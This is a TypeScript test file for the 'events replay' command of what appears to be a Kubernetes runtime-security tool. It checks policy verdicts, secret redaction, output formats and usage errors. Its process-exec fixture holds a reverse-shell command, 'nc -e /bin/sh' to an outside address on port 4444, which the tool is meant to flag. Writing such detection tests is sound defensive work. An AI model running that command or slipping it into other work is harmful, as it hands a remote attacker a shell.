import { describe, expect, test } from 'vitest';
import { run } from '../testing/terminal.ts';

const EXEC = {
  id: 'node-1/b/1',
  time: '2026-12-01T00:00:00Z',
  type: 'process-exec',
  cluster: '',
  node: 'node-1',
  namespace: 'shop',
  pod: 'web-1',
  container: 'app',
  containerId: 'abc',
  process: {
    id: 'p',
    exe: '/usr/bin/nc',
    argv: ['nc', '-e', '/bin/sh', '203.0.113.7', '4444', '--password=hunter2'],
    argvTruncated: false,
    uid: 0,
    ancestors: [{ id: 'q', exe: '/usr/sbin/nginx', argv: ['nginx'], uid: 0 }],
  },
};
const AUDIT = {
  kind: 'Event',
  apiVersion: 'audit.k8s.io/v1',
  auditID: 'a1',
  stage: 'ResponseStarted',
  verb: 'get',
  user: { username: 'ann' },
  objectRef: { resource: 'pods', subresource: 'exec', namespace: 'shop', name: 'web-1', apiVersion: 'v1' },
  responseStatus: { code: 101 },
};

const lines = (...values: readonly unknown[]): string =>
  values.map(value => `${typeof value === 'string' ? value : JSON.stringify(value)}\n`).join('');
const replay = async (words: readonly string[], text: string) => await run(['events', 'replay', ...words, '-'], text);

async function read(words: readonly string[], text: string) {
  const { code, out } = await replay(['--format', 'json', ...words], text);
  const { results, problems, summary } = JSON.parse(out);
  return { code, results, problems, summary };
}

describe('events replay', () => {
  test('tells a violation with its line and the tree of processes, and no secret', async () => {
    const { code, results, problems, summary } = await read([], lines('', EXEC));
    expect([code, problems, summary.events, summary.documents]).toStrictEqual([1, [], 1, 1]);
    const [first] = results.filter(({ state }: { state: string }) => state === 'fail');
    expect(first).toMatchObject({
      policy: 'relay-runs-shell',
      severity: 'critical',
      message: "'nc -e /bin/sh 203.0.113.7 4444 --password=***' gives a shell to the other end of a connection",
      target: { cluster: 'file:-', apiVersion: 'v1', kind: 'Pod', namespace: 'shop', name: 'web-1' },
      container: 'app',
      location: { file: '-', line: 2, column: 1 },
    });
    expect(first.evidence.map(({ path }: { path: string }) => path)).toStrictEqual(['', 'process', 'process.ancestors[0]']);
    expect(JSON.stringify(results)).not.toContain('hunter2');
  });

  test('goes on behind a line that it cannot read; a violation beats it, nothing found does not', async () => {
    const { code, problems } = await read([], lines('{', EXEC));
    expect([code, problems]).toStrictEqual([
      1,
      [{ code: 'event-unreadable', message: 'this is no JSON', source: '-', location: { file: '-', line: 1, column: 1 } }],
    ]);
    expect((await read([], lines('{', { ...EXEC, process: { ...EXEC.process, exe: '/app/server', argv: ['server'] } }))).code).toBe(3);
    expect((await read([], '')).problems).toMatchObject([{ code: 'nothing-to-judge' }]);
  });

  test('what nobody looked at is not evaluated, once for each policy', async () => {
    const { results, summary } = await read(['--policy', 'process-outside-baseline'], lines(EXEC, EXEC));
    expect(results).toMatchObject([{ policy: 'process-outside-baseline', state: 'not-evaluated' }]);
    expect(summary.states['not-evaluated']).toBe(2);
  });

  test('reads lines of several kinds, and writes every format', async () => {
    const { results } = await read(['--preset', 'runtime-audit'], lines(EXEC, AUDIT));
    expect(results.map(({ policy }: { policy: string }) => policy)).toStrictEqual(['audit-pod-exec']);
    expect((await replay(['--format', 'sarif'], lines(EXEC))).out).toContain('"ruleId": "relay-runs-shell"');
    expect((await replay(['--lang', 'ja'], lines(EXEC))).out).toContain('接続の相手にシェルを渡します');
    expect((await replay([], lines(EXEC))).out).toContain('Looked at 1 event in 1 file');
  });

  test.each([
    [
      ['--policy', 'privileged-container'],
      "error: policy 'privileged-container' judges no events, but target container; `breakwater check` asks it",
    ],
    [['--policy', 'shell-on-sockt'], "error: no policy is called 'shell-on-sockt'; did you mean 'shell-on-socket'?"],
  ])('%j is wrong usage', async (words, message) => {
    const { code, err } = await replay(words, lines(EXEC));
    expect([code, err.split('\n')[0]]).toStrictEqual([2, message]);
  });

  test('a file that is not there is wrong usage', async () => {
    expect(await run(['events', 'replay', '/no/such/file'])).toMatchObject({ code: 2, err: expect.stringContaining('/no/such/file: ') });
  });
});
